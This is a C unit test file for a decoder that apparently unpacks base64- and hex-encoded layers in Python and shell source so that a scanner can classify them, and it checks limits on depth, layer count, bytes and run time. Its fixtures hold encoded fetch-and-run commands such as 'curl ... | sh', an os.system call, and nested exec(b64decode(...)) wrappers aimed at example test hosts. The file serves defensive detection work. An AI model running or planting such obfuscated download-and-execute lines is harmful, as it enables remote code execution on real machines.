#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <string.h>

#include <cmocka.h>

#include "base/text.h"
#include "classify/decode.h"
#include "decode_forms.h"

#define KEPT 128

/* The layers of one text. */
struct layers {
	size_t count, bytes;
	unsigned deepest;
	struct kept {
		struct lw_decoded decoded; /* its bytes are `text` */
		char encodings[LW_DECODE_NAMES];
		uint8_t *text;
	} kept[KEPT];
};

static void
keep(void *arg, const struct lw_decoded *decoded)
{
	struct layers *l = arg;
	struct kept *k = &l->kept[l->count++];

	assert_true(l->count <= KEPT);
	k->decoded = *decoded;
	k->text = malloc(decoded->length + 1);
	assert_non_null(k->text);
	memcpy(k->text, decoded->bytes, decoded->length);
	snprintf(k->encodings, sizeof(k->encodings), "%s", decoded->encodings);
	l->bytes += decoded->length;
	l->deepest = LW_MAX(l->deepest, decoded->depth);
}

static void
layers_done(struct layers *l)
{
	for (size_t i = 0; i < l->count; i++)
		free(l->kept[i].text);
	l->count = 0;
}

static int
decode_text(struct layers *l, enum lw_language language, const char *text)
{
	return lw_decode((const uint8_t *)text, strlen(text), language, NULL, keep, l);
}

static const struct kept *
find(const struct layers *l, const char *wanted)
{
	for (size_t i = l->count; i > 0; i--) {
		const struct kept *k = &l->kept[i - 1];

		if (memmem(k->text, k->decoded.length, wanted, strlen(wanted)))
			return k;
	}
	return NULL;
}

/* The layer that holds `wanted` and came this way. */
static const struct kept *
find_way(const struct layers *l, const char *wanted, const char *encodings)
{
	for (size_t i = 0; i < l->count; i++) {
		const struct kept *k = &l->kept[i];

		if (strcmp(k->encodings, encodings) == 0 &&
			memmem(k->text, k->decoded.length, wanted, strlen(wanted)))
			return k;
	}
	return NULL;
}

static void
every_form_is_decoded(void **state)
{
	for (size_t i = 0; i < LW_ARRAY_SIZE(forms); i++) {
		_cleanup_(layers_done) struct layers l = {0};
		const struct form *f = &forms[i];
		const struct kept *k;

		assert_true(lw_decode((const uint8_t *)f->text, f->length, f->language, NULL, keep,
				    &l) >= 0);
		k = find_way(&l, f->wanted, f->encodings);
		if (!k) {
			for (size_t n = 0; n < l.count; n++)
				print_error("there is: %s: %.*s\n", l.kept[n].encodings,
					(int)LW_MIN(l.kept[n].decoded.length, (size_t)200),
					l.kept[n].text);
			fail_msg("%s: no layer by %s", f->name, f->encodings);
		}
		if (k->decoded.line != f->line || k->decoded.kind != f->kind ||
			k->decoded.depth != f->depth)
			fail_msg("%s: line %u, kind %s, depth %u", f->name, k->decoded.line,
				lw_decoded_kind_to_str(k->decoded.kind), k->decoded.depth);
	}
}

static void
ordinary_code_has_no_layers(void **state)
{
	static const struct {
		enum lw_language language;
		const char *text;
	} rows[] = {
		{LW_LANGUAGE_PYTHON, "from collections.abc import MutableMapping\n"
				     "DIGEST = 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca"
				     "495991b7852b855'\n"},
		{LW_LANGUAGE_PYTHON, "parser.add_argument('--verbose', help='say more ' +\n"
				     "    'than is needed, ' 'and then some')\n"},
		{LW_LANGUAGE_PYTHON, "RED = '\\x1b[31m'\nRESET = \"\\033[0m\"\nline = a[::-1]\n"
				     "PNG = b'\\x89PNG\\r\\n\\x1a\\n\\x00\\x00\\x00\\rIHDR'\n"},
		{LW_LANGUAGE_PYTHON,
			"primes = [2, 3, 5, 7, 11, 13, 17, 19, 23, 29, 31, 37, 41, 43, "
			"47, 53, 59, 61, 67]\n"},
		{LW_LANGUAGE_PYTHON, "NAME = 'one'\n\"\"\"The name of it.\"\"\"\n"
				     "TWO = 'two'\n\"\"\"The other.\"\"\"\n"},
		{LW_LANGUAGE_PYTHON, "#################### -------------------- ______________\n"
				     "requests.get('https://example.org/a%20file%20name%3Fx')\n"},
		{LW_LANGUAGE_SHELL,
			"#!/bin/sh\n# it's a comment, isn't it\nexport PATH=\"$HOME/bin\":"
			"$PATH\nsed -e 's/\\(a\\)b/\\1/' \"$1\" | grep -v '^#'\n"
			"find / -name \\*.c -exec rm {} \\;\n"},
		{LW_LANGUAGE_SHELL, "cat <<EOF\nwe don't and they won't, so it isn't\nEOF\n"
				    "/usr/lib/x86_64-linux-gnu/libexample/plugins/loader --flag\n"},
		{LW_LANGUAGE_NONE,
			"integrity sha512-z4PhNX7vuL3xVChQ1m2AB9Yg5AULVxXcg/SpIdNs6c5H0NE8XYX"
			"ysP+DGNKHfuwvY7kxvUdBeoGlODJ6+SfaPg==\n"},
	};

	for (size_t i = 0; i < LW_ARRAY_SIZE(rows); i++) {
		_cleanup_(layers_done) struct layers l = {0};

		assert_int_equal(decode_text(&l, rows[i].language, rows[i].text), 0);
		if (l.count > 0)
			fail_msg("row %zu: %s: %.*s", i, l.kept[0].encodings,
				(int)l.kept[0].decoded.length, l.kept[0].text);
	}
}

static void
short_pieces_of_one_encoding_are_one_layer(void **state)
{
	_cleanup_(layers_done) struct layers l = {0};
	const struct kept *k;

	decode_text(&l, LW_LANGUAGE_PYTHON,
		"a = ['aHR0cDovL2EuZXhhbXBsZS50ZXN0L29uZQ==',\n"
		" 'aHR0cDovL2EuZXhhbXBsZS50ZXN0L3R3bw==',\n 'Y3VybCAtZnNTTCAleCB8IHNo']\n");
	assert_int_equal(l.count, 1);
	k = find(&l, "http://a.example.test/one\nhttp://a.example.test/two\ncurl -fsSL %x | sh");
	assert_non_null(k);
	assert_int_equal(k->decoded.offset, 6);
	assert_int_equal(k->decoded.line, 1);
}

static void
the_same_bytes_come_once(void **state)
{
	_cleanup_(layers_done) struct layers l = {0};

	decode_text(&l, LW_LANGUAGE_SHELL,
		"echo Y3VybCAtZnNTTCBodHRwOi8vYS50ZXN0IHwgc2g= | sh\n"
		"x=6375726c202d6673534c20687474703a2f2f612e74657374207c207368\n");
	assert_int_equal(l.count, 1);
}

static void
a_layer_has_the_language_it_looks_like(void **state)
{
	_cleanup_(layers_done) struct layers l = {0};

	/* import os;os.system("id") */
	decode_text(&l, LW_LANGUAGE_SHELL,
		"python3 -c \"$(echo aW1wb3J0IG9zO29zLnN5c3RlbSgiaWQiKQ== | base64 -d)\"\n");
	assert_int_equal(l.count, 1);
	assert_int_equal(l.kept[0].decoded.language, LW_LANGUAGE_PYTHON);
}

/* base64 inside of base64, `depth` times. */
static void
wrap(struct lw_text *t, unsigned depth)
{
	lw_text_init(t, 1 << 20);
	lw_text_adds(t, "import os; os.system('curl http://deep.example.test | sh')");
	while (depth-- > 0) {
		_cleanup_text_ struct lw_text inner = *t;

		lw_text_init(t, 1 << 20);
		lw_text_adds(t, "exec(b64decode('");
		lw_text_add_base64(t, inner.data, inner.length);
		lw_text_adds(t, "'))");
	}
}

static void
depth_is_bounded(void **state)
{
	static const struct {
		unsigned wrapped, limit, deepest;
		int result;
	} rows[] = {
		{3, 0, 3, 0},
		{LW_DECODE_DEPTH + 3, 0, LW_DECODE_DEPTH, LW_DECODE_BOUNDED},
		{9, 9, 9, LW_DECODE_BOUNDED},
		{9, 10, 9, 0},
		{3, 1, 1, LW_DECODE_BOUNDED},
	};

	for (size_t i = 0; i < LW_ARRAY_SIZE(rows); i++) {
		const struct lw_decode_limits limits = {.depth = rows[i].limit};
		_cleanup_(layers_done) struct layers l = {0};
		_cleanup_text_ struct lw_text t;

		wrap(&t, rows[i].wrapped);
		assert_int_equal(lw_decode((uint8_t *)t.data, t.length, LW_LANGUAGE_PYTHON, &limits,
					 keep, &l),
			rows[i].result);
		assert_int_equal(l.deepest, rows[i].deepest);
	}
}

static void
layers_are_bounded(void **state)
{
	const struct lw_decode_limits limits = {.layers = 5};
	_cleanup_(layers_done) struct layers l = {0};
	_cleanup_text_ struct lw_text t;

	/* Long enough to be layers of their own, and all different. */
	lw_text_init(&t, 1 << 20);
	for (int i = 0; i < 20; i++) {
		char piece[4800];

		memset(piece, 'a' + i, sizeof(piece));
		lw_text_adds(&t, "x = '");
		lw_text_add_base64(&t, piece, sizeof(piece));
		lw_text_adds(&t, "'\n");
	}
	assert_int_equal(
		lw_decode((uint8_t *)t.data, t.length, LW_LANGUAGE_PYTHON, &limits, keep, &l),
		LW_DECODE_BOUNDED);
	assert_int_equal(l.count, 5);
}

static void
bytes_are_bounded(void **state)
{
	const struct lw_decode_limits limits = {.bytes = 1000};
	_cleanup_(layers_done) struct layers l = {0};
	_cleanup_text_ struct lw_text t;
	char piece[3000];

	memset(piece, 'a', sizeof(piece));
	lw_text_init(&t, 1 << 20);
	lw_text_add_base64(&t, piece, sizeof(piece));
	assert_int_equal(
		lw_decode((uint8_t *)t.data, t.length, LW_LANGUAGE_PYTHON, &limits, keep, &l),
		LW_DECODE_BOUNDED);
	assert_int_equal(l.count, 1);
	assert_int_equal(l.bytes, 1000);
}

/* A quarter of a MiB that expands at every chance; each once took, or could take, time without end.
 */
static void
hostile_texts_take_no_time(void **state)
{
	static const char *const pieces[] = {"\"\\\"", "'", "\\\"", "$'", "\"\"\"", "chr(", "(((",
		"%41", "\"a\"+", "'a'", "0x41,", "QUFB", "QUFB\n", "a\\", "=\n", "c''u", "1, ",
		"chr(65),", "r\"", "\\x41", "'\\x41'", "\"\\x41\n", "[::-1]'a b' ",
		"rot13 'QUFBQUFBQUFBQUFBQUFB' "};

	for (size_t i = 0; i < LW_ARRAY_SIZE(pieces); i++) {
		for (int language = 0; language < LW_LANGUAGE_COUNT; language++) {
			_cleanup_(layers_done) struct layers l = {0};
			_cleanup_text_ struct lw_text t;
			uint64_t start = lw_now_us();

			lw_text_init(&t, 1 << 20);
			while (t.length < 256 * 1024)
				lw_text_adds(&t, pieces[i]);
			lw_decode((uint8_t *)t.data, t.length, language, NULL, keep, &l);
			if (lw_now_us() - start > 2000000)
				fail_msg("%s: %llu us", pieces[i],
					(unsigned long long)(lw_now_us() - start));
		}
	}
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(every_form_is_decoded),
		cmocka_unit_test(ordinary_code_has_no_layers),
		cmocka_unit_test(short_pieces_of_one_encoding_are_one_layer),
		cmocka_unit_test(the_same_bytes_come_once),
		cmocka_unit_test(a_layer_has_the_language_it_looks_like),
		cmocka_unit_test(depth_is_bounded),
		cmocka_unit_test(layers_are_bounded),
		cmocka_unit_test(bytes_are_bounded),
		cmocka_unit_test(hostile_texts_take_no_time),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
